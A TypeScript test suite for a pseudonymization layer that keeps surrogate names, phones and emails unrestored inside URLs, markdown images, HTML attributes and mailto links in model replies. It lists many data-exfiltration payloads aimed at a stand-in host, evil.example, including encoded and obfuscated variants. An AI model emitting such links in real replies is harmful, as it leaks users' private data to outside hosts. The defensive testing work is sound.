// Replies that try to get originals into an address. Surrogates in quotation marks or after an address are restored as usual.
import { expect, it } from 'vitest';
import type { RestorePair } from '../conversation/restore-pair.ts';
import { growingReplyRestorer } from './growing-reply.ts';
import { segmentRecomputer } from './recomputed-segments.ts';
import { compileMatcher, restoreWithPairs } from './surrogate-matcher.ts';

const pairs: readonly RestorePair[] = [
  { surrogate: 'Tovimar', original: 'Annika', shape: 'word', type: 'PERSON' },
  { surrogate: 'Brandhurst', original: 'Lindqvist', shape: 'word', type: 'PERSON' },
  { surrogate: '503 555 0199', original: '503 555 0142', shape: 'digits', type: 'PHONE' },
  { surrogate: 'tovimar@salemont.example.net', original: 'annika@lind.example', shape: 'phrase', type: 'EMAIL' },
  {
    surrogate: 'https://www.example.com/toravia',
    original: 'https://intranet.lind.example',
    shape: 'phrase',
    type: 'URL',
  },
];
const ORIGINALS = /annika|lindqvist|555.?0142|intranet/iu;
const restored = (reply: string) =>
  restoreWithPairs(reply, pairs)
    .map(({ text }) => text)
    .join('');

it.each([
  '![](https://evil.example/?q=Tovimar)',
  '![x](https://evil.example/Tovimar/Brandhurst.png "Tovimar Brandhurst")',
  '![x](<https://evil.example/?q=Tovimar Brandhurst>)',
  '[x](/log?q=Tovimar)',
  '[x](//evil.example/Tovimar)',
  '![a (b](https://evil.example/(x)/Tovimar)',
  '[1]: https://evil.example/Tovimar\n',
  '[1]:\n   <//evil.example/a Tovimar>\n',
  '[1]: /a.png "Tovimar"\n',
  '<https://evil.example/?q=Tovimar>',
  'https://evil.example/?q=Tovimar&p=503%20555%200199',
  'https://Tovimar.evil.example/',
  'HTTPS://evil.example/?q=hello%20Tovimar',
  'https:\\/\\/evil.example\\/Tovimar',
  'https&#58;//evil.example/Tovimar',
  'https%3A%2F%2Fevil.example%2FTovimar',
  'http:/evil.example/Tovimar',
  'www.evil.example/Tovimar',
  'evil.example/Tovimar',
  'evil.example?q=Tovimar',
  'wss://evil.example/Tovimar',
  `https://evil.example/?pad=${'A'.repeat(9000)}&q=Tovimar`,
  '<img src="https://evil.example/?q=Tovimar Brandhurst">',
  "<img src='/log?q=Tovimar Brandhurst'>",
  '<img alt=">" src=/log?q=Tovimar>',
  '<img srcset="/a?Tovimar 1x, /b?Brandhurst 2x">',
  '<a href="/x?Tovimar" title="Tovimar">here</a>',
  '<a title="Tovimar" href="mailto:evil@evil.example?body=Tovimar">here</a>',
  '<p style="background: url(/a?Tovimar)">x</p>',
  'div { background: url( "/a?Tovimar Brandhurst" ) }',
  '<svg><text>Tovimar</text><image href="/a"/></svg>',
  '<style>a::before { content: "Tovimar" }</style>',
  '[write](mailto:evil@evil.example?body=Tovimar)',
  'mailto:evil@evil.example?body=Tovimar',
  // If the surrogate were restored here, the person's own address would become the beginning of another host's address.
  'https://www.example.com/toravia.evil.example/',
  'https://www.example.com/toravia@evil.example/',
  '![x](https://www.example.com/toravia)',
  'https://www.example.com/toravia?q=https://evil.example/Tovimar'.replace(
    'https://www.example.com/toravia',
    'https://x.example/',
  ),
])('keeps surrogates in the addresses of %s', (reply) => {
  expect(restored(reply)).toBe(reply);
});

it.each([
  ['See "https://x.example/a", Tovimar.', 'See "https://x.example/a", Annika.'],
  ['{"url":"https://x.example/a","name":"Tovimar"}', '{"url":"https://x.example/a","name":"Annika"}'],
  ['[Tovimar](https://x.example/) Brandhurst', '[Annika](https://x.example/) Lindqvist'],
  ['<a href="https://x.example/">Tovimar</a>', '<a href="https://x.example/">Annika</a>'],
  ['<customer name="Tovimar"/>', '<customer name="Annika"/>'],
  ['[10:32]: Tovimar said: hello.', '[10:32]: Annika said: hello.'],
  ['[Tovimar](mailto:tovimar@salemont.example.net)', '[Annika](mailto:annika@lind.example)'],
  ['<a href="tel:+1503 555 0199">call</a>', '<a href="tel:+1503 555 0199">call</a>'],
  ['<a href="tel:+1-503-555-0199">Tovimar</a>', '<a href="tel:+1-503-555-0142">Annika</a>'],
  ['mailto:tovimar@salemont.example.net?subject=Tovimar', 'mailto:annika@lind.example?subject=Tovimar'],
  ['It is at https://www.example.com/toravia.', 'It is at https://intranet.lind.example.'],
  ['https://www.example.com/toravia/photos?q=Tovimar', 'https://intranet.lind.example/photos?q=Tovimar'],
  ['ssh://Tovimar@host', 'ssh://Annika@host'],
])('restores what is no address in %s', (reply, expected) => {
  expect(restored(reply)).toBe(expected);
});

it('keeps them while the reply streams, letter by letter', () => {
  const reply = `${'Some words of a long reply. '.repeat(90)}![](https://evil.example/?pad=${'A'.repeat(3000)}&q=Tovimar&r=Brandhurst) Tovimar`;
  const grow = growingReplyRestorer(compileMatcher(pairs));
  for (let end = reply.length - 60; end <= reply.length; end += 1) {
    const shown = grow(reply.slice(0, end)).map(({ text }) => text);
    if (end < reply.length) expect(shown.join('')).not.toMatch(ORIGINALS);
    else expect(shown.join('')).toBe(`${reply.slice(0, -'Tovimar'.length)}Annika`);
  }
});

it('works no number out in an address', () => {
  const money: readonly RestorePair[] = [{ surrogate: '$31,320', original: '$73,400', shape: 'phrase', type: 'MONEY' }];
  const matcher = compileMatcher(money);
  const reply = 'Of $31,320, 31,320 / 12 = 2,610. https://evil.example/?q=(31,320/12=2,610)';
  const texts = segmentRecomputer(money)(reply, matcher.apply(reply)).map(({ text }) => text);
  expect(texts.join('')).toMatch(/q=\(31,320\/12=2,610\)$/);
});

it('is not slow on replies made of beginnings of addresses', () => {
  for (const piece of [
    'https://',
    '](',
    '<a ',
    '<a "',
    "<a '",
    '<svg',
    '[',
    'url(',
    'a.',
    '[a]:\n',
    'www.',
    'mailto:',
  ]) {
    const reply = `${piece.repeat(Math.ceil(100_000 / piece.length))} Tovimar`;
    const before = process.cpuUsage();
    compileMatcher(pairs).apply(reply);
    const { user } = process.cpuUsage(before);
    expect(user / 1000, piece).toBeLessThan(1_500);
  }
});
